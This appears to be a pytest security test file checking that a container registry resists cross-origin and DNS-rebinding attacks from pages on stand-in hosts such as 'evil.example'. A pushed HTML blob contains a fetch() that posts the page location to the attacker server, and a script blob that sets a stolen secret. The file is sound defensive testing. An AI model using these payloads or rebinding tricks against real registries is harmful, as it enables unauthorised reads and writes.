"""Pages that a browser opens neither read nor change a registry: pages of other origins, and a page whose name is made to
resolve to the registry. Where the defence is missing, or the registry has the name, the same attempts succeed."""

import base64
import json

import pytest

from browser.attacker import Attacker, Rebinder, WithoutDefence
from browser.chromium import opened
from fixtures import http
from fixtures.accounts import Client
from fixtures.polling import wait_for
from hostile.raw import OCI_MANIFEST, digest_of

REPOSITORY, TAG = "driftwood/secret", "secret-tag"
# All names lead to this machine; its servers have a port each.
HOSTS = {"evil.example": "127.0.0.1", "rebound.example": "127.0.0.1"}
IMAGE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
UNSAFE = ("POST", "PUT", "PATCH", "DELETE")


@pytest.fixture
def attacker():
    with Attacker() as attacker:
        yield attacker


def push(ask, attacker):
    """Pushes what a page would like to use -> the page's `target`. ask(method, path, ...) -> Answer."""
    page = f"""<html><script>
        fetch("http://127.0.0.1:{attacker.port}/executed", {{method: "POST", mode: "no-cors", body: location.href}});
        </script></html>"""
    contents = {
        "config": b"{}",
        "script": b"self.stolen = 'the secret';",
        "style": b"body { color: red }",
        "image": IMAGE,
        "page": page.encode(),
    }
    for data in contents.values():
        location = ask("POST", f"/v2/{REPOSITORY}/blobs/uploads/").headers["Location"]
        assert ask("PUT", f"{location}?digest={digest_of(data)}", body=data).status == 201
    blobs = {name: digest_of(data) for name, data in contents.items()}
    descriptor = {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": blobs["config"], "size": 2}
    layers = [{"mediaType": "application/octet-stream", "digest": blobs[name], "size": len(contents[name])}
              for name in ("script", "style", "image", "page")]  # fmt: skip
    manifest = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": descriptor, "layers": layers})
    answer = ask("PUT", f"/v2/{REPOSITORY}/manifests/{TAG}", body=manifest.encode(), headers={"Content-Type": OCI_MANIFEST})
    assert answer.status == 201, answer
    return {"repository": REPOSITORY, "tag": TAG, "blobs": blobs, "pushed": digest_of(b"pushed")}


def changes(registry):
    """-> how many requests that may change something the registry has accepted so far."""
    return sum(
        value
        for name, labels, value in registry.metrics().samples
        if name == "entrepot_http_requests_total" and labels["method"] in UNSAFE and labels["code"].startswith("2")
    )


def tokens(registry):
    return registry.metrics().total("entrepot_http_requests_total", route="token", code="200")


def attack(attacker, tmp_path, url):
    """Opens the page -> what it has learned by each attempt."""
    with opened(url, tmp_path / "browser", HOSTS):
        return attacker.report()


def attack_from(attacker, tmp_path, host, registry_url, target, script="cross_origin.js"):
    """The same for a page of the attacker's own server, which has that name."""
    attacker.add_page("/attack", script, {**target, "registry": registry_url})
    return attack(attacker, tmp_path, f"http://{host}:{attacker.port}/attack")


def learned_something(report):
    return {name: learned for name, learned in report.items() if learned}


# localhost: another port of the same site, and a secure context, which has more of the browser's interfaces.
@pytest.mark.parametrize("host", ["evil.example", "localhost"])
@pytest.mark.parametrize("registry_host", ["127.0.0.1", "localhost"])
def test_pages_of_other_origins_neither_read_nor_change(registry, attacker, tmp_path, host, registry_host):
    target = push(registry.request, attacker)
    before = changes(registry)
    report = attack_from(attacker, tmp_path, host, f"http://{registry_host}:{registry.port}", target)
    assert len(report) >= 20
    assert learned_something(report) == {}
    assert changes(registry) == before
    assert attacker.executed == []
    assert registry.request("GET", f"/v2/{REPOSITORY}/tags/list").json()["tags"] == [TAG]


def test_the_same_attempts_succeed_without_the_defence(make_registry, attacker, tmp_path):
    registry = make_registry()
    target = push(registry.request, attacker)
    before = changes(registry)
    with WithoutDefence(registry.port) as undefended:
        report = attack_from(attacker, tmp_path, "evil.example", f"http://127.0.0.1:{undefended.port}", target)
    assert learned_something(report) == {
        "run a blob as a script": "the secret",
        "show a blob as an image": "it was loaded",
        "use a blob as a style sheet": "it was loaded",
    }
    # In a frame, an object and an embedded document.
    assert len(attacker.executed) == 3
    # Uploads by a form, fetch and XMLHttpRequest, a blob, a mount, and a job.
    assert changes(registry) >= before + 6


def test_a_blob_is_no_page_of_the_registry(registry, attacker, tmp_path):
    target = push(registry.request, attacker)
    report = attack_from(attacker, tmp_path, "evil.example", registry.url, target, script="navigation.js")
    assert report == {"stays": "yes"}
    assert attacker.executed == []


def test_the_same_blob_is_a_page_without_the_defence(registry, attacker, tmp_path):
    target = push(registry.request, attacker)
    with WithoutDefence(registry.port) as undefended:
        url = f"http://127.0.0.1:{undefended.port}"
        attacker.add_page("/attack", "navigation.js", {**target, "registry": url})
        with opened(f"http://evil.example:{attacker.port}/attack", tmp_path / "browser", HOSTS):
            wait_for(lambda: attacker.executed == [f"{url}/v2/{REPOSITORY}/blobs/{target['blobs']['page']}"])


def rebound(registry, attacker, tmp_path, host, target):
    with Rebinder(attacker.page("same_origin.js", target), registry.port) as rebinder:
        return attack(attacker, tmp_path, f"http://{host}:{rebinder.port}/attack")


def test_a_rebound_name_neither_reads_nor_changes(registry, attacker, tmp_path):
    target = push(registry.request, attacker)
    before = changes(registry)
    report = rebound(registry, attacker, tmp_path, "rebound.example", target)
    assert learned_something(report) == {}
    assert len(report) >= 10
    assert changes(registry) == before


def test_the_same_attempts_succeed_by_a_name_of_the_registry(make_registry, attacker, tmp_path):
    """A rebound name that is in `listen.names` is none, so its page may do everything."""
    registry = make_registry(config={"listen": {"names": ["rebound.example"]}})
    target = push(registry.request, attacker)
    before = changes(registry)
    report = rebound(registry, attacker, tmp_path, "rebound.example", target)
    assert learned_something(report) == report
    assert changes(registry) == before + 4


def test_a_registry_with_accounts_gives_pages_nothing(make_secured_registry, attacker, tmp_path):
    registry = make_secured_registry(tls=False)
    admin = Client(registry, "admin")
    scope = f"repository:{REPOSITORY}:pull,push"
    target = push(lambda method, path, **options: admin.request(method, path, scope, **options), attacker)
    before, issued = changes(registry), tokens(registry)
    report = attack_from(attacker, tmp_path, "evil.example", registry.url, target)
    assert learned_something(report) == {}
    assert attacker.executed == []
    assert (changes(registry), tokens(registry)) == (before, issued)


def test_a_registry_with_accounts_answers_to_its_names_only(make_secured_registry):
    registry = make_secured_registry(tls=False, config={"listen": {"names": ["registry.example"]}})
    for host, status in [("registry.example", 401), ("localhost", 401), ("rebound.example", 403)]:
        answer = http.request("GET", registry.url + "/v2/", headers={"Host": host})
        assert answer.status == status, answer
